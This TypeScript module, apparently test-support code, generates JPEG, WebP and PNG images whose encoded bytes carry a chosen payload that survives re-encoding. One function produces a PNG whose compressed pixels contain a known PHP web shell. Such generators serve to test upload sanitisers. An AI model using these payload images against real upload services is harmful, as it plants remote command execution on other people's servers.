import { deflateSync } from 'node:zlib';
import sharp, { type Sharp } from 'sharp';
import { randomFrom } from '../../support/random-from.ts';
import { makePng, pngChunk } from './png.ts';

/** A way to encode pixels, and the place in the encoded bytes where a payload can be. */
export interface Encoding {
  readonly channels: 3 | 4;
  /** Possible initial values of a random channel. */
  readonly values: readonly number[];
  encode(pixels: Buffer, edge: number): Promise<Buffer>;
  /** Returns the offsets between which the bytes depend on the pixels. */
  dataOf(encoded: Buffer): [from: number, to: number];
}

const MIDDLE_VALUES = Array.from({ length: 56 }, (_, index) => 100 + index);

/** A square JPEG, as many services make from an upload. */
export const JPEG_COEFFICIENTS: Encoding = {
  channels: 3,
  values: MIDDLE_VALUES,
  encode: (pixels, edge) => fromRaw(pixels, edge, 3).jpeg({ quality: 82 }).toBuffer(),
  dataOf: (jpeg) => [jpeg.indexOf(Buffer.from('ffda', 'hex')) + 14, jpeg.length - 2],
};

/** A WebP with transparency, which the encoder keeps unchanged. */
export const WEBP_TRANSPARENCY: Encoding = {
  channels: 4,
  values: MIDDLE_VALUES,
  encode: (pixels, edge) => fromRaw(pixels, edge, 4).webp({ quality: 80 }).toBuffer(),
  dataOf: (webp) => {
    const chunk = webp.indexOf('ALPH');
    const length = webp.readUInt32LE(chunk + 4);
    // The payload goes after the table of codes at the start of the chunk.
    return [chunk + Math.floor(length / 2), chunk + length];
  },
};

/** A WebP with fully transparent and opaque pixels, which not even the lowest quality changes. */
export const WEBP_MASK: Encoding = { ...WEBP_TRANSPARENCY, values: [0, 255] };

/** Number of encodings after which another encoding hardly changes a picture. */
const GENERATIONS = 6;
const MAX_ATTEMPTS = 500;

/**
 * Returns a PNG with pixels chosen so that their encoding contains a payload. A service that drops metadata and encodes
 * the pixels again recreates the payload. The search takes a few attempts of some milliseconds each.
 */
export async function pixelsThatEncodeTo(payload: string, edge: number, encoding: Encoding): Promise<Buffer> {
  const { channels, values, encode, dataOf } = encoding;
  const random = randomFrom(1);
  const pick = () => values[Math.floor(random() * values.length)] ?? 0;
  const noise = Buffer.from(Array.from({ length: edge * edge * channels }, pick));
  let settled = await encode(noise, edge);
  for (let generation = 0; generation < GENERATIONS; generation += 1) {
    settled = await encode(await decode(settled, encoding), edge);
  }
  const [from, to] = dataOf(settled);
  for (let attempts = 0; attempts < MAX_ATTEMPTS; attempts += 1) {
    const wanted = Buffer.from(settled);
    wanted.write(payload, from + Math.floor(random() * (to - from - payload.length)), 'latin1');
    const pixels = await decode(wanted, encoding);
    if ((await encode(pixels, edge)).includes(payload, 0, 'latin1')) {
      return await fromRaw(pixels, edge, channels).png().toBuffer();
    }
  }
  throw new Error(`No pixels were found that encode to ${payload}.`);
}

export async function decode(picture: Buffer, { channels }: Encoding): Promise<Buffer> {
  const decoded = sharp(picture, { failOn: 'none' });
  return await (channels === 3 ? decoded.removeAlpha() : decoded.ensureAlpha()).raw().toBuffer();
}

function fromRaw(pixels: Buffer, edge: number, channels: 3 | 4): Sharp {
  return sharp(pixels, { raw: { width: edge, height: edge, channels } });
}

/** Returns a PNG whose pixels repeat a text. They are not compressed. */
export function pngOfText(text: string, edge: number): Buffer {
  const row = Buffer.alloc(1 + 3 * edge, text, 'latin1').fill(0, 0, 1);
  const rows = Buffer.concat(Array.from({ length: edge }, () => row));
  return makePng({ width: edge, height: edge, pixels: deflateSync(rows, { level: 0 }) });
}

/** Returns a PNG whose palette is a text. */
export function pngOfPalette(text: string, edge: number): Buffer {
  const colours = Buffer.from(text.padEnd(3 * Math.ceil(text.length / 3)), 'latin1');
  const rows = Buffer.alloc((1 + edge) * edge).map((_, at) =>
    at % (1 + edge) ? at % (colours.length / 3) : 0,
  );
  const palette = pngChunk('PLTE', colours);
  return makePng({ width: edge, height: edge, colourType: 3, chunks: [palette], pixels: deflateSync(rows) });
}

/** Returns a PNG whose pixels zlib compresses to `<?=$_GET[0]($_POST[1]);?>`, a payload known since 2012. */
export function pngThatDeflatesToPhp(): Buffer {
  const rows = Buffer.alloc((1 + 3 * 32) * 32);
  rows.write('a39f67546f2c24152b116712546f112e29152b2167226b6f5f5310', 1, 'hex');
  return makePng({ width: 32, height: 32, pixels: deflateSync(rows, { level: 9 }) });
}
